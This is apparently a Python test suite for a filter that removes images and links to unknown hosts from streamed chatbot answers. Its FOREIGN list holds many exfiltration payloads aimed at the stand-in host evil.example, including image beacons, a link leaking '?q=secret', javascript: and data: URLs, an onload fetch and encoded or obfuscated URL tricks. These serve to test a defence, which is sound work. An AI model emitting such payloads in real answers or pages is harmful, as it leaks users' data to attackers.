"""An answer shows no pictures and no links but to known hosts, however it comes in pieces."""

import re
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from protocol.ids import ChatId, MessageId
from protocol.values import Node, Question, Utterance
from retrieval.known_hosts import KnownHosts
from retrieval.safe_answer import SafeAnswer

HOSTS = KnownHosts(["site1.example", "www.docs.example"])
FENCE = "```"
KEPT = {
    "citations": "It is tall [1]. It is old [1][2], see [3]: the end.",
    "citation behind a mark": "Great![1] Really!![12][3]",
    "known link": "See [the page](https://site1.example/a_(b)?q=1#c), or so.",
    "known host with www": "See [it](https://www.site1.example/) and https://docs.example/x.",
    "known address": "See https://site1.example, <https://site1.example/x>, www.docs.example.",
    "known port": "See https://site1.example:8080/x",
    "code": "Call `curl https://elsewhere.example/x` or ``a ` b``.",
    "block": f"So:\n\n{FENCE}sh\ncurl https://elsewhere.example/ # ![a](b)\n{FENCE}\nDone.",
    "block in a list": f"1. So:\n   {FENCE}\n   wget http://elsewhere.example\n   {FENCE}\n2. x",
    "block of tildes": "~~~\n<img src='https://elsewhere.example'>\n~~~\n",
    "maths": r"$a<b$, $x_{[i]}(y)$, \(a \le b\), $$f(x) = \sum_{i<n} x_i!$$ and a < b > c",
    "types": "A List<String> or Map<K, V> is a thing",
    "plain tags": "H<sub>2</sub>O, x<sup>2</sup>, a<br>b<br/>c",
    "table": "| a | b |\n|:--|--:|\n| 1 | `x` |\n",
    "prose": "Note: at 10:30, AT&T said: wow! 3 < 4 && 5 > 4; e.g. this... ~5% *b* **c** _d_\n> q",
    "array": "Take a[1], b[2]:c",
}
# Texts of which nothing may reach the foreign host: it is always evil.example.
FOREIGN = (
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[r]:\n//evil.example/p.png\n\n![r]",
    "[a\nb]: //evil.example/p.png\n\n![a b]",
    "> [r]: //evil.example/\n\n[r]",
    "![1](https://evil.example/)",
    "!![1](https://evil.example/)",
    "[click](https://evil.example/?q=secret)",
    "[click](<https://evil.example/a b>)",
    "[click]( https://evil.example 'title' )",
    "[click](\nhttps://evil.example\n)",
    "[click](https://site1.example@evil.example/)",
    "[click](https://site1.example\\@evil.example/)",
    "[click](https:\\\\evil.example/)",
    "[click](https:/\\evil.example/)",
    "[click](https&colon;//evil.example/)",
    "[click](//evil.example)",
    "[click](http:evil.example)",
    "[click](javascript:location='https://evil.example')",
    "[click](data:text/html,https://evil.example)",
    "[![x](https://evil.example/p)](https://site1.example)",
    "[a`](https://evil.example/)`",
    '[a](https://site1.example "![x](https://evil.example/p)")',
    '](https://site1.example "![x](https://evil.example/p)")',
    "](https://site1.example/![x](https://evil.example/p))",
    "[a [b] c](https://evil.example)",
    "[a](https://evil.example" + "x" * 3000 + ")",
    "https://evil.example/?q=secret",
    "HTTPS://EVIL.EXAMPLE/",
    "xhttps://evil.example/",
    "ftp://evil.example/",
    "https://site1.example@evil.example/",
    "https://site1.example:x@evil.example/",
    "https://site1.example:80@evil.example/",
    "https://site1.example'@evil.example/",
    "https://site1.example)@evil.example/",
    "https://site1.example,@evil.example/",
    "https://site1.example.evil.example/",
    "https&#58;//evil.example/",
    "https&#x3A;//evil.example/",
    "www.evil.example/x",
    "www.site1.example:x@evil.example/",
    "<https://evil.example/>",
    "<www.evil.example>",
    "<img src=https://evil.example/p.png>",
    "<img src='//evil.example/p.png'>",
    "<IMG\nSRC=//evil.example>",
    "!<b>[x](https://evil.example)</b>",
    "!<u>[x](https://site1.example/p.png)",
    "<a href='https://evil.example'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<x style='background:url(//evil.example)'>",
    "<svg/onload=fetch('//evil.example')>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<!-- --><img src=//evil.example>",
    "<![CDATA[ <img src=//evil.example> ]]>",
    "<" + "a" * 600 + " src=//evil.example>",
    "<div>\n`<a href='https://evil.example'>x</a>`",
    "<foo>\n`<img src=//evil.example>`",
    "<br>\n`<img src=//evil.example>`",
    "`a\nhttps://evil.example `![x](https://evil.example)`",
    "\\`https://evil.example`",
    "| a | b |\n|---|---|\n| `a | https://evil.example | b` |",
    f"    {FENCE}\nhttps://evil.example",
    f"> {FENCE}\n> a\nhttps://evil.example\n{FENCE}",
    f"- a\n  {FENCE}\nhttps://evil.example",
    f"  {FENCE}\ncode\n{FENCE}\nhttps://evil.example",
    f"{FENCE} a`b\n![x](https://evil.example)\n{FENCE}",
    f"x {FENCE}\n![x](https://evil.example)\n",
)
# What a browser would follow, in a text without its code.
LIVE = re.compile(
    r"[a-z]://[^\s]*evil\.example|www\.[^\s]*evil\.example|\]\([^)]*evil|!\[(?!\d+\][^(])"
    r"|<(?!www)[a-z!/?][^>]*evil|^[ >]*\[[^\]]*\]:|(?:colon|#58|#x3a);?//",
    re.IGNORECASE | re.MULTILINE,
)


CODE = re.compile(r"`[^`|\n]*`")


def safe(*pieces: str) -> str:
    """The text that is shown."""
    answer = SafeAnswer(HOSTS)
    return "".join([*map(answer.feed, pieces), answer.finish()])


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    """Not a letter of it changes."""
    assert safe(text) == text


@pytest.mark.parametrize("text", FOREIGN)
def test_nothing_leads_to_a_foreign_host(text: str) -> None:
    """Neither a picture nor a link, however it is written."""
    for around in ("{}", "Before {} after", "Before\n\n{}\n\nafter"):
        shown = CODE.sub("", safe(around.replace("{}", text)))
        assert not LIVE.search(shown), shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See [it](https://evil.example/).", "See [it]."),
        ("![A tower](https://evil.example/x.png)", "[A tower]"),
        ("![A tower](https://site1.example/x.png)", "[A tower](https://site1.example/x.png)"),
        ("At https://evil.example/x?y", "At https: //evil.example/x?y"),
        ("a <img src=x> b", "a   b"),
        ("x = f[i](a, b)", "x = f[i] (a, b)"),
        (f"{FENCE}sh\ncurl https://evil.example", f"{FENCE}sh\ncurl https://evil.example\n{FENCE}"),
    ],
)
def test_what_is_taken_away_is_only_what_leads_there(text: str, shown: str) -> None:
    """The words of a link and of a picture stay; a block of code is closed."""
    assert safe(text) == shown


PARTS = st.lists(
    st.sampled_from(
        [
            *KEPT.values(),
            *FOREIGN,
            *"[]()!<>`~:/.\n &\\",
            "```",
            "\n```\n",
            "https://",
            "www",
            "a",
            "[1]",
        ]
    ),
    max_size=8,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(PARTS | st.text("[]()!<>`~:/.\n &\\aw1\"'=#", max_size=60), st.data())
@example("[r]: //evil.example", None)
def test_pieces_make_no_difference(text: str, data: st.DataObject | None) -> None:
    """However the model's words are cut, the same is shown."""
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=12)) if data else []
    places = sorted({0, *cuts, len(text)})
    pieces = [text[start:end] for start, end in pairwise(places)]
    assert safe(*pieces) == safe(text) == safe(*text)


@settings(max_examples=200, deadline=None)
@given(st.text("abc xyz,;()*_-\"'1=", min_size=1, max_size=40))
def test_ordinary_text_is_not_held_back(text: str) -> None:
    """What cannot begin a link is shown at once."""
    assert SafeAnswer(HOSTS).feed(text) == text


def test_what_is_held_back_is_bounded() -> None:
    """A link without end does not keep the rest of the answer."""
    for start in ("[a](", "<a ", "`", "https://", "![", f"{FENCE}\n![", "&#"):
        answer = SafeAnswer(HOSTS)
        shown = answer.feed(start) + "".join(answer.feed("x" * 10) for _ in range(2000))
        assert len(shown) > 9_000


def test_hosts_of_the_sources_and_of_the_users_words_are_known() -> None:
    """Not those that a model has named."""
    history = (Utterance("user", "on c.example?"), Utterance("assistant", "http://d.example"))
    question = Question(
        ChatId("c"), MessageId("m"), "And http://b.example/x", "webSearch", "speed", history
    )
    hosts = KnownHosts.of(question, [Node("", "", "https://www.A.example/x"), Node("", "", "File")])
    assert [name for name in "abcd" if hosts.has(f"{name}.example")] == ["a", "b", "c"]
